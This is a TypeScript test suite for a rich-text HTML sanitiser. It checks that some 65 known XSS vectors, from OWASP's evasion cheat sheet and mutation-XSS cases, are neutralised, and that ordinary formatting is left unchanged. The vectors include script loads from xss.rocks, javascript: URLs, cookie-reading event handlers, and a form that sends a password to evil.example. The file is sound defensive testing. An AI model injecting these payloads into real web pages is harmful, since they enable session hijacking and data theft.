import { describe, expect, test } from 'bun:test';
import { SAME_ORIGIN_PATH, sanitizeRichText } from '../src/core/html-sanitize.ts';

// Notice content through the sanitiser: known XSS vectors (OWASP's filter-evasion cheat sheet and
// mutation-XSS classics) must come out harmless, and ordinary rich text must come out unchanged.
// "Harmless" is judged by a second, independent HTML parser (Bun's HTMLRewriter, lol-html) that
// walks every element and attribute of the OUTPUT against the policy.

/** The oracle's own idea of a same-origin path (not the module's: a test that borrows it proves nothing). */
const SAME_ORIGIN = /^\/[^/\\\s]([^\\\s]*)$|^\/$/;
const TAGS = new Set(['p', 'br', 'hr', 'b', 'i', 'u', 's', 'strike', 'strong', 'em', 'sub', 'sup', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'ul', 'ol', 'li', 'blockquote', 'pre', 'code', 'span', 'a', 'img']);
const ATTRS: Record<string, string[]> = { a: ['href', 'rel', 'target'], img: ['src', 'alt', 'width', 'height'] };
const STYLE = /^(color|background-color|text-align|padding-left):[^;:()]*(\((\s*[\d.%]+\s*,?)+\))?[^;:()]*(;(color|background-color|text-align|padding-left):[^;:()]*(\((\s*[\d.%]+\s*,?)+\))?[^;:()]*)*;?$/i;

/** Attribute text as a browser reads it: the output only ever uses these references. */
function decoded(raw: string): string {
  const other = raw.match(/&(?!amp;|lt;|gt;|quot;|#\d+;|#x[0-9a-f]+;)[a-z0-9#]+;?/i);
  if (other) throw new Error(`unexpected character reference ${other[0]} in ${raw}`);
  return raw
    .replace(/&#x([0-9a-f]+);/gi, (_, h) => String.fromCodePoint(parseInt(h, 16)))
    .replace(/&#(\d+);/g, (_, d) => String.fromCodePoint(Number(d)))
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&quot;/g, '"')
    .replace(/&amp;/g, '&');
}

/** Every way the output breaks the policy (empty: none), seen by lol-html. */
async function violations(html: string): Promise<string[]> {
  const bad: string[] = [];
  await new HTMLRewriter()
    .on('*', {
      element(el) {
        const tag = el.tagName.toLowerCase();
        if (!TAGS.has(tag)) bad.push(`tag <${tag}>`);
        for (const [name, raw] of el.attributes) {
          const value = decoded(raw);
          const squeezed = value.replace(/[\u0000-\u0020\u007f-\u00a0]/g, '').toLowerCase();
          if (name === 'style') {
            if (!STYLE.test(value.replace(/\s+/g, '')) || /url|expression|@import|\\/i.test(value)) bad.push(`style="${value}" on <${tag}>`);
          } else if (name === 'class') {
            if (!value.split(/\s+/).every((c) => /^(ql|w-e)-[\w-]+$/.test(c))) bad.push(`class="${value}"`);
          } else if (!(ATTRS[tag] ?? []).includes(name)) bad.push(`attribute ${name} on <${tag}>`);
          if (name === 'href' && (/^(javascript|vbscript|data|file):/.test(squeezed) || !/^(https?:|mailto:|[/?#.\w])/.test(squeezed))) bad.push(`href="${value}"`);
          if (name === 'src' && !SAME_ORIGIN.test(value)) bad.push(`src="${value}"`);
          if (name === 'target' && value !== '_blank') bad.push(`target="${value}"`);
        }
        if (tag === 'a' && el.getAttribute('rel') !== 'noopener noreferrer nofollow') bad.push('<a> without rel');
      },
      comments(c) {
        bad.push(`comment ${c.text}`);
      },
    })
    .transform(new Response(html))
    .text();
  return bad;
}

const VECTORS = [
  `<script>alert(1)</script>`,
  `<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  `<a onmouseover="alert(document.cookie)">xxs link</a>`,
  `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`,
  `<IMG SRC=# onmouseover="alert('xxs')">`,
  `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
  `<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`,
  `<IMG SRC="jav\tascript:alert('XSS');">`,
  `<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
  `<IMG SRC=" &#14;  javascript:alert('XSS');">`,
  `<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`,
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  `<<SCRIPT>alert("XSS");//<</SCRIPT>`,
  `<SCRIPT SRC=http://xss.rocks/xss.js?< B >`,
  `<iframe src=http://xss.rocks/scriptlet.html <`,
  `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
  `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
  `<BODY BACKGROUND="javascript:alert('XSS')">`,
  `<IMG DYNSRC="javascript:alert('XSS')">`,
  `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
  `<svg/onload=alert('XSS')>`,
  `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
  `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
  `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`,
  `<TABLE BACKGROUND="javascript:alert('XSS')"><TD BACKGROUND="javascript:alert('XSS')">`,
  `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
  `<DIV STYLE="width: expression(alert('XSS'));">`,
  `<p style="color: red; background-image: url(http://evil.example/x.png)">t</p>`,
  `<span style="color: expression(alert(1))">t</span>`,
  `<span style="color: red;} body { background: url(//evil.example)">t</span>`,
  `<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>`,
  `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIj48L3N2Zz4=">`,
  `<a href="javascript&colon;alert(1)">x</a>`,
  `<a href="&#106;avascript:alert(1)">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
  `<a href=" javascript:alert(1)">x</a>`,
  `<a href="java\u0000script:alert(1)">x</a>`,
  `<a href="jav&#x0A;ascript:alert(1)">x</a>`,
  `<img src="//evil.example/x.png">`,
  `<img src="/\\evil.example/x.png">`,
  `<img src="https://evil.example/x.png">`,
  `<img src="http://localhost/x.png">`,
  `<img src="data:image/png;base64,iVBORw0KGgo=">`,
  `<img src="x.png">`,
  `<img srcset="https://evil.example/x.png 1x" src="/app/x.png">`,
  `<form action="https://evil.example"><input name="password"><button formaction="javascript:alert(1)">go</button></form>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<svg><style><img src=x onerror=alert(1)></style></svg>`,
  `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
  `<a href="#" id="x" name="cookie">clobber</a>`,
  `<!--<img src=x onerror=alert(1)>-->`,
  `<base href="https://evil.example/">`,
  `<details open ontoggle=alert(1)>`,
  `<xss onafterscriptexecute=alert(1)><script>1</script>`,
  `<template><img src=x onerror=alert(1)></template>`,
  `<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>`,
  `<p><a href="https://ok.example" target="_self" onclick="x()" rel="opener">ok</a></p>`,
  `<span class="ql-size-large evil" data-x="1">x</span>`,
];

describe('sanitizeRichText: known XSS vectors', () => {
  test.each(VECTORS.map((v) => [v]))('%s', async (vector) => {
    const out = sanitizeRichText(vector);
    expect(await violations(out)).toEqual([]);
    // nothing executable survives as text either way it could be read back
    expect(out.toLowerCase()).not.toMatch(/<script|javascript:|vbscript:|onerror=|onload=/);
    // sanitising twice changes nothing more
    expect(sanitizeRichText(out)).toBe(out);
  });

  test('the oracle itself catches what it must (it is not vacuous)', async () => {
    expect((await violations('<img src=x onerror=alert(1)>')).sort()).toEqual(['attribute onerror on <img>', 'src="x"']);
    expect(await violations('<a href="javascript:alert(1)">x</a>')).toContain('href="javascript:alert(1)"');
    expect(await violations('<a href="&#106;avascript:1" rel="noopener noreferrer nofollow">x</a>')).toEqual(['href="javascript:1"']);
    expect(await violations('<p style="background:url(x)">t</p><iframe></iframe>')).toEqual(['style="background:url(x)" on <p>', 'tag <iframe>']);
  });
});

describe('SAME_ORIGIN_PATH (img src), a layer of its own behind allowProtocolRelative', () => {
  test.each(['/app/sysImage/preview?id=1&exp=2&sig=x', '/a', '/'])('%s is a path of this site', (src) => expect(SAME_ORIGIN_PATH.test(src)).toBe(true));
  test.each(['//evil.example/x.png', '/\\evil.example/x.png', '/a\\b', 'x.png', 'https://e.example/x', 'data:image/png;base64,AA', '/a b', '/a\tb', ' /a'])('%s is not', (src) =>
    expect(SAME_ORIGIN_PATH.test(src)).toBe(false),
  );
});

describe('sanitizeRichText: ordinary rich text survives', () => {
  test.each([
    ['<p>Hello <strong>world</strong>, <em>em</em> <u>u</u> <s>s</s> <b>b</b> <i>i</i></p>'],
    ['<h1>T</h1><h2>T</h2><h6>T</h6><ul><li>a</li></ul><ol><li>b</li></ol><blockquote>q</blockquote><pre><code>x &lt; y</code></pre>'],
    ['<p>line<br />next</p><hr />'],
    ['<p class="ql-align-center"><span style="color:#e60000;background-color:rgb(255, 255, 0)">hi</span></p>'],
    ['<p style="text-align:right;padding-left:2em">r</p>'],
    ['<p><a href="https://example.com/a?b=1&amp;c=2" rel="noopener noreferrer nofollow" target="_blank">link</a> <a href="mailto:a@example.com" rel="noopener noreferrer nofollow">mail</a> <a href="/app/x" rel="noopener noreferrer nofollow">rel</a></p>'],
    ['<p><img src="/app/sysImage/preview?id=42&amp;exp=1790000000&amp;sig=abc" alt="pic" width="100" height="50" /></p>'],
    ['<p>中文内容 &amp; emoji 😀 &lt;not a tag&gt;</p>'],
  ])('%s', (html) => {
    expect(sanitizeRichText(html)).toBe(html);
  });

  test('links get rel; a disallowed tag keeps its text, a script-like one loses it', () => {
    expect(sanitizeRichText('<a href="https://example.com">x</a>')).toBe('<a href="https://example.com" rel="noopener noreferrer nofollow">x</a>');
    expect(sanitizeRichText('<div><font color="red">kept</font></div>')).toBe('kept');
    expect(sanitizeRichText('<p>a<script>bad()</script>b<style>p{}</style>c</p>')).toBe('<p>abc</p>');
    expect(sanitizeRichText('<p style="color: red; background-image: url(http://evil.example/x.png)">t</p>')).toBe('<p style="color:red">t</p>');
  });
});
